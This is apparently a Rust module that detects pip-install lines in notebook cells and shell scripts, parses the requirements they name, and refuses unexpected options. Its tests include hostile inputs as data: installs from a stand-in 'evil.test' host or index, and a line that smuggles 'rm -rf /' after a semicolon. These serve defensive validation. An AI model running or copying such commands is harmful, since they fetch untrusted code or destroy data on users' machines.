//! Lines of a notebook's cell that install packages: `%pip install pandas`, `!pip install pandas`, and `pip install pandas` as IPython takes it
//! too (ipython.readthedocs.io, "%pip"). They are no Python, so a cell has some only if it cannot be parsed as it stands. In a shell's program
//! they are lines of their own: `pip install pandas`, `pip install pandas && python3 x.py`. `-r FILE` names a file, which the caller reads.

use crate::ENTRIES_MAX;
use crate::refused::{Refused, Why};
use crate::requirement::Requirement;

/// What stands before `install`.
const COMMANDS: [&str; 10] = [
    "%pip",
    "%pip3",
    "!pip",
    "!pip3",
    "!python -m pip",
    "!python3 -m pip",
    "!{sys.executable} -m pip",
    "%uv pip",
    "!uv pip",
    "pip",
];
/// The same in a shell.
const SHELL_COMMANDS: [&str; 5] = ["pip", "pip3", "python -m pip", "python3 -m pip", "uv pip"];
/// Options that change nothing about what comes, or say what is so anyway.
const IDLE: [&str; 10] = [
    "-q",
    "-qq",
    "--quiet",
    "-U",
    "--upgrade",
    "--user",
    "--no-cache-dir",
    "--disable-pip-version-check",
    "--no-input",
    "--progress-bar=off",
];

/// Most requirements files of a cell.
const LISTED_MAX: usize = 16;

/// A cell with lines that install.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Cell {
    /// Every line; of one of those what follows its installation.
    lines: Vec<(String, Option<String>)>,
    /// What they name.
    pub requirements: Vec<Requirement>,
    /// Requirements files that they name, in this order; what those name is not among `requirements`.
    pub files: Vec<Listed>,
}

/// A requirements file that a line names.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Listed {
    /// As it is named.
    pub path: String,
    /// The line that names it, from 1.
    pub line: usize,
}

impl Cell {
    /// Reads a cell; `None` if it has no such line. What a line names is parsed as strictly as `packages`.
    pub fn read(code: &str) -> Result<Option<Self>, Refused> {
        // Nearly every cell has none.
        if !code.contains("pip") || !code.contains("install") {
            return Ok(None);
        }
        let (mut lines, mut named, mut found) = (Vec::new(), Named::default(), false);
        for (number, line) in code.split('\n').enumerate() {
            let arguments = arguments(line, &COMMANDS);
            if let Some(arguments) = arguments {
                found = true;
                named.read(arguments, number + 1)?;
            }
            lines.push((line.to_owned(), arguments.map(|_| String::new())));
        }
        few(&named.requirements)?;
        let is_cell = found && ruff_python_parser::parse_module(code).is_err();
        Ok(is_cell.then_some(Self { lines, requirements: named.requirements, files: named.files }))
    }

    /// Reads a shell's program; `None` if no line of it only installs, or installs before `&&`. One with a here-document has none: its lines may
    /// be text.
    pub fn read_shell(code: &str) -> Result<Option<Self>, Refused> {
        if !code.contains("pip") || !code.contains("install") || code.contains("<<") {
            return Ok(None);
        }
        let (mut lines, mut named) = (Vec::new(), Named::default());
        let mut continues = false;
        for (number, line) in code.split('\n').enumerate() {
            let (first, rest) = line.find("&&").map_or((line, ""), |at| line.split_at(at));
            let is_plain = !continues && !first.contains(['|', ';', '$', '`', '(', '\\', '&']);
            let arguments = arguments(first, &SHELL_COMMANDS).filter(|_| is_plain);
            if let Some(arguments) = arguments {
                named.read(arguments, number + 1)?;
            }
            continues = line.ends_with('\\');
            lines.push((line.to_owned(), arguments.map(|_| rest.to_owned())));
        }
        let Named { requirements, files } = named;
        few(&requirements)?;
        let is_any = !requirements.is_empty() || !files.is_empty();
        Ok(is_any.then_some(Self { lines, requirements, files }))
    }

    /// The cell as it is run, with the same lines: this statement in place of the first that installs, and in place of
    /// the others what does `nothing`: `pass`, or a shell's `true`.
    pub fn code(&self, statement: &str, nothing: &str) -> String {
        let mut statement = Some(statement);
        let line = |(line, rest): &(String, Option<String>)| match rest {
            None => line.clone(),
            Some(rest) => {
                let indent = &line[..line.len() - line.trim_start().len()];
                format!("{indent}{} {rest}", statement.take().unwrap_or(nothing)).trim_end().to_owned()
            }
        };
        self.lines.iter().map(line).collect::<Vec<_>>().join("\n")
    }
}

fn few(requirements: &[Requirement]) -> Result<(), Refused> {
    if requirements.len() > ENTRIES_MAX {
        return Err(Refused::new("pip install", Why::TooMuch { what: "entries", max: ENTRIES_MAX }));
    }
    Ok(())
}

/// What stands after `install` in a line that installs.
fn arguments<'a>(line: &'a str, commands: &[&str]) -> Option<&'a str> {
    let line = line.trim_start();
    let of = |command: &&str| line.strip_prefix(command)?.strip_prefix(' ');
    let rest = commands.iter().find_map(of)?.trim_start().strip_prefix("install")?;
    rest.starts_with([' ', '\t']).then_some(rest)
}

/// What lines name.
#[derive(Default)]
struct Named {
    requirements: Vec<Requirement>,
    files: Vec<Listed>,
}

impl Named {
    /// Reads what stands after `install` in a line.
    fn read(&mut self, arguments: &str, line: usize) -> Result<(), Refused> {
        let arguments = arguments.split(" #").next().unwrap_or(arguments);
        let plain = |word: &str| word.trim_matches(['"', '\'']).to_owned();
        let mut words = arguments.split_whitespace().filter(|word| !IDLE.contains(word));
        while let Some(word) = words.next().map(plain) {
            let path = match file_option(&word) {
                Some("") => words.next().map(plain).unwrap_or_default(),
                Some(path) => plain(path),
                None if word.starts_with('-') => {
                    let why = Why::Option(crate::refused::shown(&word, 40));
                    return Err(Refused::new(&word, why).at(line));
                }
                None => {
                    self.requirements.push(word.parse().map_err(|refused: Refused| refused.at(line))?);
                    continue;
                }
            };
            if path.is_empty() || path.starts_with('-') {
                return Err(Refused::new(&word, Why::NoFile).at(line));
            }
            if self.files.len() == LISTED_MAX {
                let why = Why::TooMuch { what: "requirements files", max: LISTED_MAX };
                return Err(Refused::new("pip install", why).at(line));
            }
            self.files.push(Listed { path, line });
        }
        Ok(())
    }
}

/// What stands in the same word as the option that names a requirements file, which may be nothing.
fn file_option(word: &str) -> Option<&str> {
    match word.strip_prefix("--requirement") {
        Some("") => Some(""),
        Some(rest) => rest.strip_prefix('='),
        None => word.strip_prefix("-r").filter(|_| !word.starts_with("--")),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn cell(code: &str) -> Option<Cell> {
        Cell::read(code).unwrap()
    }

    #[test]
    fn lines_that_install_are_found_and_the_others_stay_where_they_are() {
        let code = "import os\n%pip install -q 'pandas>=2' six  # for tables\nx = 1\nif x:\n    !pip3 install tabulate\nx";
        let found = cell(code).unwrap();
        let named: Vec<String> = found.requirements.iter().map(ToString::to_string).collect();
        assert_eq!(named, ["pandas>=2", "six", "tabulate"]);
        assert_eq!(found.code("print(1)", "pass"), "import os\nprint(1)\nx = 1\nif x:\n    pass\nx");
        for line in [
            "!{sys.executable} -m pip install six",
            "pip install six",
            "!python3 -m pip install --upgrade six",
        ] {
            assert_eq!(cell(line).unwrap().requirements.len(), 1, "{line}");
        }
    }

    #[test]
    fn a_shells_lines_are_found_where_they_do_nothing_else_before() {
        let code = "set -e\n  pip install -q six 'idna>=3' && python3 x.py\nif true; then\npython3 -m pip install tabulate\nfi";
        let found = Cell::read_shell(code).unwrap().unwrap();
        let named: Vec<String> = found.requirements.iter().map(ToString::to_string).collect();
        assert_eq!(named, ["six", "idna>=3", "tabulate"]);
        let wanted = "set -e\n  echo 1 && python3 x.py\nif true; then\ntrue\nfi";
        assert_eq!(found.code("echo 1", "true"), wanted);
        for code in [
            "cat <<E\npip install six\nE",
            "echo x \\\npip install six",
            "pip install $NAME",
            "pip install six | tail -1",
            "echo pip install six",
            "pip list",
        ] {
            assert_eq!(Cell::read_shell(code).unwrap(), None, "{code}");
        }
        assert!(Cell::read_shell("pip install -c constraints.txt six").is_err());
    }

    #[test]
    fn requirements_files_are_named_in_each_of_pips_ways() {
        for line in
            ["-r a/b.txt", "-ra/b.txt", "--requirement a/b.txt", "--requirement='a/b.txt'", "-q -r 'a/b.txt'"]
        {
            let wanted = Listed { path: "a/b.txt".into(), line: 2 };
            let found = cell(&format!("1\n%pip install {line}")).unwrap();
            assert_eq!((found.files, found.requirements), (vec![wanted.clone()], vec![]), "{line}");
            let found = Cell::read_shell(&format!("set -e\npip install {line} && true")).unwrap().unwrap();
            assert_eq!((found.files, found.requirements), (vec![wanted], vec![]), "{line}");
        }
        let both = cell("%pip install -r a.txt six -r b.txt").unwrap();
        assert_eq!((both.files.len(), both.requirements.len()), (2, 1));
        for line in ["-r", "-r -q", "--requirement=", "six -r ''"] {
            let refused = Cell::read(&format!("1\n%pip install {line}")).unwrap_err();
            assert_eq!((refused.line, refused.why), (Some(2), Why::NoFile), "{line}");
        }
    }

    #[test]
    fn what_is_python_as_it_stands_has_none() {
        for code in [
            "'''\n%pip install six\n'''",
            "pip = 2\ninstall = 1\npip %install",
            "# %pip install six",
            "%pip list",
            "1",
        ] {
            assert_eq!(cell(code), None, "{code}");
        }
    }

    #[test]
    fn a_line_that_names_anything_else_is_refused_with_its_number() {
        for (line, words) in [
            ("%pip install git+https://evil.test/x", "version control"),
            ("%pip install --index-url https://evil.test six", "option"),
            ("%pip install -c constraints.txt", "option"),
            ("%pip install --requirements x.txt", "option"),
            ("%pip install six; rm -rf /", ""),
        ] {
            let refused = Cell::read(&format!("1\n{line}")).unwrap_err();
            assert_eq!(refused.line, Some(2), "{line}");
            assert!(refused.to_string().contains(words), "{refused}");
        }
    }
}
